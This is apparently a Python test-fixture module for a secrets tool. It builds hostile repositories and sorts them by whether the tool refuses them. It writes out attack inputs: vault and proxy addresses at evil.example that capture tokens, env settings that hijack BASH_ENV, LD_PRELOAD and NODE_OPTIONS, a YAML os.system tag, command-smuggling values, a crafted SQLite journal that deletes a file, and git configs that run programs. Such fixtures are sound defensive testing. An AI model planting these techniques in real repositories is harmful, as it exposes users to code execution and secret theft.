"""Hostile repositories: what somebody may find after `git clone`, or below a directory that others can write.

Each is a small function that fills a directory. It gets the directory and a place outside of it that it must not reach:
`outside` holds a program `kv` and a file `private.env`.
"""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import struct

EVIL = "evil.example"
PAYLOAD = '#!/bin/sh\n: > "$(dirname "$0")/was-run"\n'
FOREIGN_USER = 12345

# Name -> builder: those that default mode stops, those whose env files it refuses, and those that may go on.
REFUSED, UNREADABLE, QUIET = {}, {}, {}


def stopped(build):
    REFUSED[build.__name__] = build
    return build


def unreadable(build):
    """What reads the env files stops. `secret` does not take anything from them."""
    UNREADABLE[build.__name__] = build
    return build


def harmless(build):
    """Default mode may go on: what the repository chose has no effect, or is documented everyday use."""
    QUIET[build.__name__] = build
    return build


def write(place, name, text, mode=0o644):
    path = place / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    return path


def config(place, *backends, **fields):
    listed = {"backends": list(backends)} if backends else {"backends": [{"name": "vault"}]}
    write(place, ".envref.yaml", json.dumps({"project": "app", **listed, **fields}))


def environment(place, text=""):
    write(place, ".env", f"A=ref://secrets/a\n{text}")


def store(kind, **options):
    return {"name": "s", "type": kind, "config": options}


def project(place, *backends, text="", **fields):
    config(place, *backends, **fields)
    environment(place, text)


# programs


@stopped
def a_plugin_of_its_own(place, outside):
    project(place, store("plugin", command="./kv"))
    write(place, "kv", PAYLOAD, 0o755)


@stopped
def a_plugin_of_its_own_by_its_absolute_path(place, outside):
    project(place, store("plugin", command=str(write(place, "envref-backend-s", PAYLOAD, 0o755))))


@stopped
def a_plugin_beside_the_repository(place, outside):
    project(place, store("plugin", command=os.path.relpath(outside / "kv", place)))


@stopped
def a_plugin_anywhere(place, outside):
    project(place, store("plugin", command=str(outside / "kv")))


@stopped
def a_plugin_through_the_home_directory(place, outside):
    project(place, store("plugin", command="~/bin/kv"))


@stopped
def a_program_of_its_own_for_a_store(place, outside):
    project(place, store("1password", command="./op"))
    write(place, "op", PAYLOAD, 0o755)


@stopped
def a_shell_for_a_store(place, outside):
    project(place, store("aws-ssm", command="/bin/sh"))


@stopped
def a_bare_shell_for_a_store(place, outside):
    project(place, store("doppler", command="sh"))


@stopped
def a_link_to_a_shell_with_the_store_s_name(place, outside):
    (place / "op").symlink_to("/bin/sh")
    project(place, store("1password", command=str(place / "op")))


@stopped
def a_program_on_a_path_into_the_repository(place, outside):
    """The harness has `onpath` of every repository on PATH, as `.envrc` files and virtual environments do."""
    project(place, store("1password"))
    write(place, "onpath/op", PAYLOAD, 0o755)


@stopped
def a_plugin_on_a_path_into_the_repository(place, outside):
    project(place, {"name": "s", "type": "plugin"})
    write(place, "onpath/envref-backend-s", PAYLOAD, 0o755)


@harmless
def a_program_on_a_relative_path(place, outside):
    """PATH has empty and relative parts here: they choose nothing."""
    project(place, store("doppler"))
    write(place, "relative/doppler", PAYLOAD, 0o755)
    write(place, "doppler", PAYLOAD, 0o755)


@harmless
def shells_on_a_path_into_the_repository(place, outside):
    project(place)
    for name in ("bash", "sh", "zsh", "fish", "git", "python3", "env"):
        write(place, f"onpath/{name}", PAYLOAD, 0o755)


@harmless
def a_git_of_its_own_for_the_token_check(place, outside):
    project(place, store("hashicorp-vault", addr="http://127.0.0.1:9", token="t"))
    write(place, "onpath/git", PAYLOAD, 0o755)


@harmless
def a_git_configuration_that_runs_programs(place, outside):
    project(place, store("hashicorp-vault", addr="http://127.0.0.1:9", token="t"))
    payload = write(place, "payload", PAYLOAD, 0o755)
    for name, text in {
        "HEAD": "ref: refs/heads/main\n",
        "config": f"[core]\nfsmonitor={payload}\nsshCommand={payload}\nhooksPath={place}\npager={payload}\n",
    }.items():
        write(place, f".git/{name}", text)
    for name in ("objects", "refs/heads"):
        (place / ".git" / name).mkdir(parents=True)


@harmless
def a_buried_bare_repository_that_lacks_what_is_staged(place, outside):
    """A partial clone as ordinary files, with an index: git would fetch by the program that its config names."""
    project(place, store("hashicorp-vault", addr="http://127.0.0.1:9", token="t"))
    payload = write(place, "payload", PAYLOAD, 0o755)
    write(place, "HEAD", "ref: refs/heads/main\n")
    settings = "repositoryformatversion=1\nbare=false\nworktree=.\n"
    remote = '[extensions]\npartialClone=origin\n[remote "origin"]\nurl=ssh://nowhere.invalid/x\npromisor=true\n'
    write(place, "config", f"[core]\n{settings}sshCommand={payload}\n{remote}")
    for name in ("objects", "refs/heads"):
        (place / name).mkdir(parents=True)
    names = (".env", ".envref.yaml")
    (place / "index").write_bytes(index_of(*map(staged_entry, names)))


def index_of(*entries):
    """git's index of these files (git's index-format, version 2)."""
    content = struct.pack(">4sII", b"DIRC", 2, len(entries)) + b"".join(entries)
    return content + hashlib.sha1(content, usedforsecurity=False).digest()


def staged_entry(name):
    """A file of git's index whose content no object has (git's index-format, version 2)."""
    entry = struct.pack(">10I20sH", *[0] * 6, 0o100644, 0, 0, 0, b"\1" * 20, len(name)) + name.encode()
    return entry + b"\0" * (8 - len(entry) % 8)


@stopped
def a_password_store_that_is_a_git_repository(place, outside):
    project(place, store("pass", store="store"))
    payload = write(place, "payload", PAYLOAD, 0o755)
    write(place, "store/config", f"[core]\nbare=false\nworktree=.\nfsmonitor={payload}\n")
    write(place, "store/HEAD", "ref: refs/heads/main\n")
    write(place, "store/.gpg-id", "attacker@evil.example\n")
    for name in ("objects", "refs"):
        (place / "store" / name).mkdir(parents=True)


@stopped
def a_program_beside_the_project_in_its_repository(place, outside):
    """The project lies below its repository's root, and reaches the rest by a link and /proc, or by PATH."""
    (place / ".git").mkdir()
    write(place, "tools/op", PAYLOAD, 0o755)
    (place / "sub").mkdir()
    (place / "sub/up").symlink_to("..")
    project(place, store("1password", command="/proc/self/cwd/sub/up/tools/op"))


@stopped
def a_program_of_the_store_s_name_in_a_place_for_everybody(place, outside):
    project(place, store("plugin", command="/tmp/envref-backend-s"))


# addresses


@stopped
def an_address_for_the_user_s_token(place, outside):
    project(place, store("hashicorp-vault", addr=f"https://{EVIL}:8200"))


@stopped
def an_address_with_the_local_one_as_user_name(place, outside):
    project(place, store("hashicorp-vault", addr=f"https://127.0.0.1:8200@{EVIL}"))


@stopped
def an_address_that_looks_local(place, outside):
    project(place, store("hashicorp-vault", addr=f"https://localhost.{EVIL}"))


@stopped
def an_address_beside_the_user_s_own(place, outside):
    project(place, store("hashicorp-vault", addr=f"https://own.example:8200.{EVIL}"))


@stopped
def an_address_without_encryption(place, outside):
    project(place, store("hashicorp-vault", addr=f"http://{EVIL}:8200"))


@stopped
def an_address_without_encryption_that_looks_local(place, outside):
    project(place, store("hashicorp-vault", addr=f"http://127.0.0.1\\@{EVIL}"))


@stopped
def one_bad_backend_behind_a_good_one(place, outside):
    project(place, {"name": "vault"}, store("hashicorp-vault", addr=f"https://{EVIL}"))


# places and files


@stopped
def a_vault_outside(place, outside):
    project(place, store("vault", path=str(outside / "private.db")))


@stopped
def a_vault_up_the_tree(place, outside):
    project(place, store("vault", path="../../../private.db"))


@stopped
def a_vault_through_a_link(place, outside):
    (place / "data").symlink_to(outside)
    project(place, store("vault", path="data/private.db"))


def crafted_journal(content, victim):
    """A hot journal that names a super-journal: SQLite plays it back, and then deletes the file so named."""
    magic, page_size = bytes.fromhex("d9d505f920a163d7"), struct.unpack(">H", content[16:18])[0]
    header = magic + struct.pack(">IIIII", 0, 1234, len(content) // page_size, 512, page_size)
    name = os.fsencode(victim)
    tail = struct.pack(">I", 0x40000000 // page_size + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    return header.ljust(512, b"\0") + tail


@harmless
def a_vault_with_a_journal_that_deletes_a_file(place, outside):
    """As a clone under umask 077 leaves it, or a tar archive."""
    vault_beside(place, outside, "-journal")


def vault_beside(place, outside, suffix):
    """A vault with a crafted file of SQLite's beside it."""
    project(place, store("vault", path="v.db"))
    connection = sqlite3.connect(place / "v.db")
    connection.executescript("CREATE TABLE metadata(key, value); CREATE TABLE secrets(key, value, mac)")
    connection.close()
    journal = crafted_journal((place / "v.db").read_bytes(), outside / "private.env")
    (place / f"v.db{suffix}").write_bytes(journal)
    for name in ("v.db", f"v.db{suffix}"):
        (place / name).chmod(0o600)


@stopped
def an_env_file_up_the_tree(place, outside):
    project(place, env_file="../outside/private.env")


@stopped
def an_env_file_by_its_absolute_path(place, outside):
    project(place, local_file=str(outside / "private.env"))


@stopped
def a_linked_env_file(place, outside):
    config(place)
    (place / ".env").symlink_to(outside / "private.env")


@stopped
def a_linked_local_file(place, outside):
    project(place)
    (place / ".env.local").symlink_to(outside / "private.env")


@stopped
def a_linked_directory_of_a_profile(place, outside):
    project(place, profiles={"p": {"env_file": "envs/private.env"}}, active_profile="p")
    (place / "envs").symlink_to(outside)


@stopped
def a_device_as_env_file(place, outside):
    config(place)
    (place / ".env").symlink_to("/dev/zero")


@unreadable
def a_pipe_as_env_file(place, outside):
    config(place)
    os.mkfifo(place / ".env")


@stopped
def a_pipe_as_config(place, outside):
    environment(place)
    os.mkfifo(place / ".envref.yaml")


@harmless
def a_pipe_and_a_link_as_logs(place, outside):
    project(place)
    os.mkfifo(place / ".envref.audit.log")
    (place / ".gitignore").symlink_to(outside / "private.env")


@harmless
def a_linked_audit_log(place, outside):
    project(place)
    (place / ".envref.audit.log").symlink_to(outside / "private.env")


@harmless
def a_huge_env_file(place, outside):
    project(place, text="B=" + "x" * (4 << 20) + "\n")


# what grows


def _multiplied(first, times, levels=40):
    """Lines that each repeat the one before: 4 KB that would be more than the machine holds."""
    lines = [f"A{level}={f'${{A{level - 1}}}' * times}\n" for level in range(1, levels)]
    return f"A0={first}\n" + "".join(lines)


@unreadable
def lines_that_multiply(place, outside):
    project(place, text=_multiplied("x", 10))


@unreadable
def references_in_a_chain_without_end(place, outside):
    project(place, text=_multiplied("ref://secrets/a", 1, levels=5000))


@harmless
def references_that_multiply(place, outside):
    """Nobody knows how long a value is before its store was asked; here none has any."""
    project(place, text=_multiplied("ref://secrets/a", 2))


@harmless
def a_schema_whose_pattern_never_ends(place, outside):
    project(place, text="B=" + "a" * 60 + "!\n")
    write(place, ".env.schema.json", json.dumps({"B": {"pattern": "^(a+)+$"}}))


# names


def _setting(name, value="./payload"):
    def build(place, outside):
        project(place, text=f"{name}={value}\n")
        write(place, "payload", PAYLOAD, 0o755)

    build.__name__ = f"a_file_that_sets_{name}" + ("" if value == "./payload" else "_to_a_value_of_its_own")
    return build


for _name in ("BASH_ENV", "ENV", "LD_PRELOAD", "PATH", "ZDOTDIR", "PROMPT_COMMAND", "IFS", "XDG_STATE_HOME"):
    stopped(_setting(_name))
stopped(_setting("VAULT_ADDR", f"https://{EVIL}"))
stopped(_setting("DBUS_SESSION_BUS_ADDRESS", "unix:path=/tmp/evil"))
stopped(_setting("PYTHON_KEYRING_BACKEND", "evil.Keyring"))
unreadable(_setting("ENVREF_TRUST", "all"))
unreadable(_setting("ENVREF_CONFIG_DIR", "."))
unreadable(_setting("X;id>&2;Y", "1"))
for _name in (
    "HOME",
    "PYTHONPATH",
    "OPENSSL_CONF",
    "PS1",
    "HISTFILE",
    "GIT_SSH_COMMAND",
    "EDITOR",
    "KUBECONFIG",
    "RPROMPT",
):
    stopped(_setting(_name))
stopped(_setting("HOME", "/proc/self/cwd/h"))
stopped(_setting("OPTIND", "a[$(./payload)]"))
stopped(_setting("NODE_OPTIONS", "--require ./payload"))
stopped(_setting("HTTP_PROXY", f"http://{EVIL}"))
stopped(_setting("HTTPS_PROXY", f"http://u:${{A}}@{EVIL}"))
harmless(_setting("NODE_ENV", "$(./payload)"))


# configs


def _text(name, text, mode=0o644):
    def build(place, outside):
        environment(place)
        write(place, ".envref.yaml", text, mode)

    build.__name__ = name
    return build


stopped(_text("a_config_that_trusts_itself", "project: app\ntrust: default\n"))
stopped(_text("a_config_that_trusts_its_place", "project: app\ntrusted_paths: [/]\n"))
stopped(_text("a_config_with_an_alias_bomb", "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nproject: app\n"))
stopped(_text("a_config_that_makes_an_object", "project: !!python/object/apply:os.system [id]\n"))
stopped(_text("a_config_with_a_key_twice", "project: app\nproject: other\n"))
stopped(_text("a_config_without_end", "project: app\nx: " + "[" * 5000 + "\n"))
stopped(_text("a_config_that_is_too_large", "project: app\n#" + "x" * 300_000 + "\n"))
stopped(_text("a_config_that_others_can_write", "project: app\n", 0o646))
stopped(_text("a_config_with_the_passphrase", "project: app\nbackends: [{name: vault, config: {passphrase: x}}]\n"))
stopped(_text("a_project_name_that_leads_away", 'project: "../../other"\n'))
stopped(_text("a_project_name_with_a_line_end", 'project: "a\\nb"\n'))
stopped(_text("a_profile_name_that_leads_away", "project: app\nprofiles: {../../etc/passwd: }\n"))
stopped(_text("a_backend_name_that_leads_away", "project: app\nbackends: [{name: ../kv, type: plugin}]\n"))
stopped(_text("a_team_with_a_plugin_key", "project: app\nteam: [{name: n, public_key: age1evil-plugin1qqq}]\n"))


@stopped
def a_config_of_somebody_else(place, outside):
    project(place)
    if os.geteuid() == 0:
        os.chown(place / ".envref.yaml", FOREIGN_USER, FOREIGN_USER)
    else:
        (place / ".envref.yaml").chmod(0o666)


@harmless
def services_with_hostile_names(place, outside):
    project(place, services={"$(./payload)": ["A"]})


@harmless
def the_name_of_another_project(place, outside):
    project(place, project="known")


@harmless
def the_token_in_an_address(place, outside):
    project(place, text=f"URL=https://{EVIL}/${{VAULT_TOKEN}}\n", interpolate_environment=True)


@harmless
def a_linked_config(place, outside):
    """Strict mode refuses it: nothing outside is read."""
    environment(place)
    write(outside, "config.yaml", "project: app\nbackends: [{name: vault}]\n")
    (place / ".envref.yaml").symlink_to(outside / "config.yaml")
